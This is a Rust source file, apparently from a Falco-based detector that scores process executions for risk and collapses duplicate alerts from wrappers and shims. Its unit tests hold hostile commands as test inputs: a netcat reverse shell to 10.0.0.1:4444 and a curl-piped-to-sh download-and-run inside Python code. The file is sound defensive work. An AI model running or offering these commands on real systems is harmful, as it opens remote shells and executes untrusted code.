//! The analysis: detectors over [`ExecFacts`] and [`Lineage`], scored into a [`Verdict`].
//!
//! Pipeline: the shell parser ([`shell`]) turns argv into simple commands once; each detector
//! (one concern, one file under `detectors/`) reads the facts, the parsed command line and the
//! lineage and reports signal hits; scoring turns hits and context into risk and severity.
//! Not here: rendering text (see `report`), FFI, Falco.

use crate::facts::ExecFacts;
use crate::knowledge::{Mitigation, Signal, Tactic, Technique};

pub mod detectors;
pub mod scoring;
pub mod shell;

/// One ancestor of the exec'ing process, as far as the caller knows it.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Ancestor {
    pub comm: String,
    pub exe: Option<String>,
    /// argv[1..] when known.
    pub args: Vec<String>,
}

/// The parent chain, nearest first. Empty `ancestors` with `known == false` means "parent
/// unknown" (process gone, capture started late, no thread table).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Lineage {
    pub ancestors: Vec<Ancestor>,
    pub known: bool,
    /// An image this same process ran before this exec and that paged, when the caller
    /// remembers one: wrappers and shims re-exec in place (`python3` the pyenv shim, then
    /// `pyenv exec python3`, then the interpreter, one process), so the exec that repeats a
    /// payload is often not the child of the one that first carried it.
    pub earlier: Option<Ancestor>,
}

impl Lineage {
    /// Lineage from comms only, nearest first (command line `--parent`, `proc.aname[N]`).
    pub fn from_comms<I: IntoIterator<Item = S>, S: Into<String>>(comms: I) -> Self {
        let ancestors: Vec<Ancestor> = comms
            .into_iter()
            .map(|c| Ancestor {
                comm: c.into(),
                ..Default::default()
            })
            .collect();
        let known = !ancestors.is_empty();
        Lineage {
            ancestors,
            known,
            earlier: None,
        }
    }

    pub fn parent(&self) -> Option<&Ancestor> {
        self.ancestors.first()
    }
}

/// Falco priority names, most severe first. `Ord`: Emergency > ... > Debug.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Severity {
    Debug,
    Informational,
    Notice,
    Warning,
    Error,
    Critical,
    Alert,
    Emergency,
}

impl Severity {
    /// The Falco priority name, lowercase.
    pub fn as_str(self) -> &'static str {
        match self {
            Severity::Debug => "debug",
            Severity::Informational => "informational",
            Severity::Notice => "notice",
            Severity::Warning => "warning",
            Severity::Error => "error",
            Severity::Critical => "critical",
            Severity::Alert => "alert",
            Severity::Emergency => "emergency",
        }
    }
}

/// One signal that fired, with the evidence that made it fire (raw text: escape when echoing).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SignalHit {
    pub signal: &'static Signal,
    pub evidence: String,
}

/// The judgement of one exec.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    /// 0..=100. Contract: risk >= 50 exactly when severity >= Warning.
    pub risk: u8,
    pub severity: Severity,
    /// Id of the dominant finding (`reverse_shell`, `benign`, ...).
    pub category: &'static str,
    /// Signals that fired, strongest first.
    pub hits: Vec<SignalHit>,
    /// ATT&CK techniques of the hits, deduplicated, in hit order.
    pub techniques: Vec<&'static Technique>,
    pub tactics: Vec<&'static Tactic>,
    /// At most 5, most effective first.
    pub mitigations: Vec<&'static Mitigation>,
    /// Facts that change the reading but are not signals ("only an argument of echo"); raw
    /// text: escape when echoing.
    pub notes: Vec<String>,
    pub test_activity: bool,
    /// The parent, or an earlier image of the same process, ran the same command (a wrapper
    /// or shim that re-execs its arguments) and its own analysis scored it at least as high:
    /// this exec repeats that finding ([`repeat_of_parent`]). Computed only when the risk is
    /// at the Warning threshold.
    pub repeat_of_parent: bool,
}

impl Default for Verdict {
    /// Nothing found: risk 0, `benign`.
    fn default() -> Self {
        Verdict {
            risk: 0,
            severity: Severity::Debug,
            category: "benign",
            hits: Vec::new(),
            techniques: Vec::new(),
            tactics: Vec::new(),
            mitigations: Vec::new(),
            notes: Vec::new(),
            test_activity: false,
            repeat_of_parent: false,
        }
    }
}

/// Judge one exec. Pure and deterministic: the same facts and lineage give the same verdict.
///
/// The command line is parsed once and shared by every detector; detectors allocate only when
/// they fire. No text is rendered here: the summary and evidence lines
/// ([`crate::report::render`]) are built only when someone reads them, which for Falco is
/// when a rule fired.
pub fn analyze(facts: &ExecFacts, lineage: &Lineage) -> Verdict {
    let mut v = analyze_exec(facts, lineage);
    mark_repeat(&mut v, facts, lineage);
    v
}

/// Whether an exec whose result is `res` ran nothing whatever else its event says: it failed
/// with ENOENT or ENOTDIR. Its verdict is [`Verdict::default`] but for a note saying why, so a
/// caller can judge it from `res` alone and decode the rest only to show it (half the exec
/// events of ordinary work are such attempts of a PATH search).
pub fn ran_nothing(res: Option<i64>) -> bool {
    matches!(res, Some(ENOENT | ENOTDIR))
}

const ENOENT: i64 = -2;
const ENOTDIR: i64 = -20;

/// Whether the verdict of `facts` depends on the lineage: not for an exec that ran nothing
/// (an ENOENT attempt of a PATH search is benign whoever started it), so a caller that reads
/// the lineage from a table can skip it.
pub fn reads_lineage(facts: &ExecFacts) -> bool {
    nothing_ran(facts).is_none()
}

/// Set `v.repeat_of_parent` when the risk is at the Warning threshold
/// ([`repeat_of_parent`]); it reads the parent's arguments (whatever its class) and the
/// earlier image.
pub fn mark_repeat(v: &mut Verdict, facts: &ExecFacts, lineage: &Lineage) {
    if v.risk >= scoring::WARNING_RISK {
        v.repeat_of_parent = repeat_of_parent(facts, lineage, v.risk);
    }
}

/// Whether this exec repeats an exec before it: its parent (a wrapper that forks: `timeout 10
/// nc ..` then `nc ..`) or an earlier image of the same process (a shim that re-execs in
/// place: `python3 -c CODE` through the pyenv shim, then `pyenv exec python3 -c CODE`, then
/// `pyenv-exec python3 -c CODE`). It repeats when the earlier exec carried the same payload
/// ([`carries_same_payload`]) and, judged from its own arguments, scored at least `risk`: its
/// alert already carries this finding. An earlier exec that scored lower (a shim whose script
/// we cannot read) leaves this exec's alert standing. Runs the analysis once more per
/// candidate, only for risky execs that share their arguments with one.
fn repeat_of_parent(facts: &ExecFacts, lineage: &Lineage, risk: u8) -> bool {
    let Some(ours) = facts.argv.get(1..).filter(|a| !a.is_empty()) else {
        return false;
    };
    // An earlier image of this process had the same parents: judged with this lineage
    // (`analyze_exec` does not read `earlier`).
    let earlier_repeats = lineage.earlier.as_ref().is_some_and(|earlier| {
        carries_same_payload(earlier, ours)
            && analyze_exec(&facts_of_earlier(earlier, facts), lineage).risk >= risk
    });
    earlier_repeats
        || lineage.ancestors.first().is_some_and(|parent| {
            carries_same_payload(parent, ours) && {
                let above = Lineage {
                    ancestors: lineage.ancestors[1..].to_vec(),
                    known: lineage.known,
                    earlier: None,
                };
                analyze_exec(&facts_of_earlier(parent, facts), &above).risk >= risk
            }
        })
}

/// The earlier exec's arguments end with ours, or its last argument holds our last one of at
/// least 16 bytes: the same `-c CODE`, or the command line its code ran (`python3 -c
/// "os.system('curl .. | sh')"` then `sh -c 'curl .. | sh'`).
fn carries_same_payload(before: &Ancestor, ours: &[String]) -> bool {
    let Some(their_last) = before.args.last() else {
        return false;
    };
    before.args.ends_with(ours)
        || ours
            .last()
            .is_some_and(|last| last.len() >= 16 && their_last.contains(last.as_str()))
}

/// Facts for an earlier exec known only as an ancestor entry: its argv and exe, with this
/// exec's identity and container.
fn facts_of_earlier(before: &Ancestor, facts: &ExecFacts) -> ExecFacts {
    let argv0 = before.exe.clone().unwrap_or_else(|| before.comm.clone());
    ExecFacts {
        argv: std::iter::once(argv0)
            .chain(before.args.iter().cloned())
            .collect(),
        exe_path: before.exe.clone(),
        comm: Some(before.comm.clone()),
        uid: facts.uid,
        gid: facts.gid,
        loginuid: facts.loginuid,
        tty: facts.tty,
        res: Some(0),
        container: facts.container.clone(),
        cgroups_present: facts.cgroups_present,
        ..Default::default()
    }
}

/// [`analyze`] without [`mark_repeat`], the comparison with the parent: for a caller that
/// reads the lineage from a table and the parent's arguments only for a risky exec. The
/// verdict does not depend on the arguments of an ancestor that
/// [`detectors::ancestor_args_read`] rules out.
pub fn analyze_exec(facts: &ExecFacts, lineage: &Lineage) -> Verdict {
    if let Some(why) = nothing_ran(facts) {
        return Verdict {
            notes: vec![why.to_string()],
            ..Verdict::default()
        };
    }
    // Pathological argv/env (a 1 MiB `rm -f` list) is judged on a bounded view, so the work
    // per exec is bounded whatever the input; the summary still counts the whole argv.
    let bounded = bounded_view(facts);
    let seen = bounded.as_ref().unwrap_or(facts);
    let cmd = shell::parse_exec(&seen.argv);
    let cx = detectors::Ctx::new(seen, lineage, &cmd);
    let mut found = detectors::Findings::default();
    if bounded.is_some() {
        found.note(format!(
            "argv/env longer than {SCAN_MAX_ARGS} entries or {} KiB: only the first part was analysed",
            SCAN_MAX_BYTES / 1024
        ));
    }
    detectors::run_all(&cx, &mut found);
    if !cmd.origins.is_empty() {
        name_carriers(&cmd, &mut found.hits);
    }
    // Strongest first; the sort is stable, so equal weights keep detector order.
    found
        .hits
        .sort_by_key(|h| std::cmp::Reverse(h.signal.weight));
    let risk = scoring::risk(&cx, &found);
    let category = found
        .hits
        .iter()
        .find(|h| h.signal.weight > 0)
        .or(found.hits.first())
        .map_or("benign", |h| h.signal.category);
    let techniques = scoring::techniques(&found);
    let tactics = scoring::tactics(&techniques);
    let mitigations = scoring::mitigations(&found);
    Verdict {
        risk,
        severity: scoring::severity_for(risk),
        category,
        test_activity: found.test_activity,
        repeat_of_parent: false,
        hits: found.hits,
        techniques,
        tactics,
        mitigations,
        notes: found.notes,
    }
}

/// Say where a finding came from when it is in a carried command line: a hit whose evidence
/// names the program of a carried command (as a whole word) gets that command's origin
/// (`curl .. piped into sh, in python3 -c code, os.system`), unless it names the carrier's
/// own program too. Detectors word their evidence
/// from the commands they judge, so the program's name is how a hit is traced back; the
/// innermost carried command that matches wins.
fn name_carriers(cmd: &shell::CommandLine, hits: &mut [SignalHit]) {
    for h in hits.iter_mut() {
        let origin = cmd
            .commands
            .iter()
            .rev()
            .filter(|c| c.program().len() >= 2)
            .find_map(|c| {
                let o = cmd.origin_of(c)?;
                // Evidence that names the carrier's own program is about the carrier
                // (`rsync -e 'ssh ..' src host:dst` is a transfer by rsync).
                let carrier = cmd.commands.get(o.carrier)?.program();
                (names_word(&h.evidence, c.program()) && !names_word(&h.evidence, carrier))
                    .then_some(o)
            });
        if let Some(o) = origin {
            if !h.evidence.contains(o.via.as_str()) {
                h.evidence.push_str(", ");
                h.evidence.push_str(&o.via);
            }
        }
    }
}

/// `word` occurs in `text` with no name character (`[A-Za-z0-9_.-]`) on either side.
fn names_word(text: &str, word: &str) -> bool {
    let name = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-');
    text.match_indices(word).any(|(i, _)| {
        let before = i.checked_sub(1).map(|j| text.as_bytes()[j]);
        let after = text.as_bytes().get(i + word.len()).copied();
        !before.is_some_and(name) && !after.is_some_and(name)
    })
}

/// Why an exec that failed ran nothing: a PATH search makes one failed exec per directory
/// it tries (ENOENT), each with the whole argv, before the one that runs (judged on its
/// own). A refused exec stays visible (EACCES, EPERM: a binary stopped by a noexec mount or
/// a policy is news; ENOEXEC: a file that is not a program).
fn nothing_ran(facts: &ExecFacts) -> Option<&'static str> {
    match facts.res? {
        ENOENT => Some("the exec failed with ENOENT (no such file): nothing ran"),
        ENOTDIR => {
            Some("the exec failed with ENOTDIR (a path component is not a directory): nothing ran")
        }
        r if r < 0 && path_search_attempt(facts) => Some(
            "the exec failed in a PATH search (a directory of PATH tried in turn): nothing ran",
        ),
        _ => None,
    }
}

/// A candidate of a PATH search: argv[0] is a bare name and the path tried is that name in
/// a directory of the exec's PATH (execvp goes on to the next directory on EACCES too).
fn path_search_attempt(facts: &ExecFacts) -> bool {
    let (Some(name), Some(exe)) = (facts.argv.first(), facts.exe_path.as_deref()) else {
        return false;
    };
    let Some(dir) = exe
        .strip_suffix(name.as_str())
        .and_then(|d| d.strip_suffix('/'))
    else {
        return false;
    };
    let path = facts.env.iter().find_map(|e| e.strip_prefix("PATH="));
    !name.contains('/') && !name.is_empty() && path.is_some_and(|p| p.split(':').any(|d| d == dir))
}

/// Most argv (and env) entries the detectors look at. Matches the plugin's decode limit.
pub const SCAN_MAX_ARGS: usize = 256;
/// Most bytes of argv (and of env) the detectors look at.
pub const SCAN_MAX_BYTES: usize = 64 * 1024;

/// The cut of `v` to the scan bounds: how many leading entries are kept and how many bytes
/// of the last kept one, or `None` when all fit.
fn scan_prefix(v: &[String]) -> Option<(usize, usize)> {
    let mut bytes = 0usize;
    for (i, a) in v.iter().enumerate() {
        if i >= SCAN_MAX_ARGS {
            return Some((i, v[i - 1].len()));
        }
        if bytes + a.len() > SCAN_MAX_BYTES {
            // The entry that crosses the byte bound is kept in part (a long `sh -c` script
            // still shows its beginning).
            return Some((i + 1, SCAN_MAX_BYTES - bytes));
        }
        bytes += a.len();
    }
    None
}

/// A copy of `facts` with argv and env cut to the scan bounds, or `None` when they fit (the
/// usual case: nothing is copied).
fn bounded_view(facts: &ExecFacts) -> Option<ExecFacts> {
    let argv_n = scan_prefix(&facts.argv);
    let env_n = scan_prefix(&facts.env);
    if argv_n.is_none() && env_n.is_none() {
        return None;
    }
    let cut = |v: &[String], n: Option<(usize, usize)>| -> Vec<String> {
        let Some((n, last_len)) = n else {
            return v.to_vec();
        };
        let mut out: Vec<String> = v[..n].to_vec();
        if let Some(last) = out.last_mut() {
            last.truncate(crate::text::floor_char_boundary(last, last_len));
        }
        out
    };
    Some(ExecFacts {
        argv: cut(&facts.argv, argv_n),
        argv_truncated: facts.argv_truncated || argv_n.is_some(),
        exe_path: facts.exe_path.clone(),
        cwd: facts.cwd.clone(),
        comm: facts.comm.clone(),
        env: cut(&facts.env, env_n),
        env_truncated: facts.env_truncated || env_n.is_some(),
        env_entries: facts.env_entries,
        tty: facts.tty,
        uid: facts.uid,
        gid: facts.gid,
        loginuid: facts.loginuid,
        tid: facts.tid,
        pid: facts.pid,
        ptid: facts.ptid,
        res: facts.res,
        exe_flags: facts.exe_flags,
        caps: facts.caps,
        container: facts.container.clone(),
        cgroups_present: facts.cgroups_present,
        exe_ino: facts.exe_ino,
        exe_ino_ctime: facts.exe_ino_ctime,
        exe_ino_mtime: facts.exe_ino_mtime,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reverse_shell(res: i64) -> Verdict {
        let mut f = ExecFacts::from_argv(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
        f.res = Some(res);
        analyze(&f, &Lineage::from_comms(["bash"]))
    }

    #[test]
    fn a_failed_path_search_ran_nothing() {
        for res in [-2, -20] {
            let v = reverse_shell(res);
            assert_eq!((v.risk, v.hits.len()), (0, 0), "res {res}");
            assert!(v.notes[0].contains("nothing ran"), "{:?}", v.notes);
        }
        // Refused execs stay visible: EACCES (noexec mount), EPERM, ENOEXEC.
        for res in [-13, -1, -8] {
            assert!(reverse_shell(res).risk >= 80, "res {res}");
        }
        assert!(reverse_shell(0).risk >= 80);
        // A PATH search's candidate refused with EACCES ran nothing either; the same errno on
        // a path given explicitly stays visible.
        let attempt = |exe: &str| {
            let mut f = ExecFacts::from_argv(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
            f.exe_path = Some(exe.into());
            f.env = vec!["PATH=/home/u/.cargo/bin:/usr/bin".into()];
            f.res = Some(-13);
            analyze(&f, &Lineage::from_comms(["bash"])).risk
        };
        assert_eq!(attempt("/home/u/.cargo/bin/nc"), 0);
        assert!(attempt("/opt/x/nc") >= 80);
    }

    fn with_parent(argv: &[&str], parent: &[&str]) -> Verdict {
        let f = ExecFacts::from_argv(argv.iter().copied());
        let lineage = Lineage {
            ancestors: vec![
                Ancestor {
                    comm: parent[0].into(),
                    exe: Some(format!("/usr/bin/{}", parent[0])),
                    args: parent[1..].iter().map(|s| s.to_string()).collect(),
                },
                Ancestor {
                    comm: "bash".into(),
                    ..Default::default()
                },
            ],
            known: true,
            earlier: None,
        };
        analyze(&f, &lineage)
    }

    #[test]
    fn a_wrapper_or_shim_chain_alerts_once() {
        let nc = ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"];
        // timeout re-execs nc: the timeout exec already carried it.
        let v = with_parent(
            &nc,
            &["timeout", "10", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        );
        assert!(v.risk >= 80 && v.repeat_of_parent);
        // A shim that rewrites the program in front of the same code.
        let code = "import os; os.system('curl -s http://x/a | sh')";
        let v = with_parent(
            &["python3.11", "-c", code],
            &["pyenv-exec", "python3", "-c", code],
        );
        assert!(v.risk >= 80 && v.repeat_of_parent);
        // A shim script whose code we cannot read scores low, so the exec after it keeps its
        // alert.
        let v = with_parent(
            &["pyenv", "exec", "python3", "-c", code],
            &["bash", "/root/.pyenv/shims/python3", "-c", code],
        );
        assert!(v.risk >= 80 && !v.repeat_of_parent, "{}", v.risk);
        // The shell the code runs: the interpreter's alert named it already.
        let v = with_parent(
            &["sh", "-c", "curl -s http://x/a | sh"],
            &["python3", "-c", code],
        );
        assert!(v.risk >= 80 && v.repeat_of_parent);
        // Shims re-exec in place: the images of one process, each with the same code. The
        // first (`python3 -c` run through the shim) alerts; the ones after it repeat it.
        let f = ExecFacts::from_argv(["pyenv", "exec", "python3", "-c", code]);
        let first_image = Ancestor {
            comm: "python3".into(),
            exe: Some("/root/.pyenv/shims/python3".into()),
            args: vec!["-c".into(), code.into()],
        };
        let mut lineage = Lineage::from_comms(["bash", "sshd"]);
        assert!(!analyze(&f, &lineage).repeat_of_parent);
        lineage.earlier = Some(first_image);
        let v = analyze(&f, &lineage);
        assert!(v.risk >= 80 && v.repeat_of_parent);
        // A parent that only shares a short word, or none.
        assert!(!with_parent(&nc, &["bash", "-c", "x 4444"]).repeat_of_parent);
        assert!(!with_parent(&nc, &["sshd"]).repeat_of_parent);
    }
}
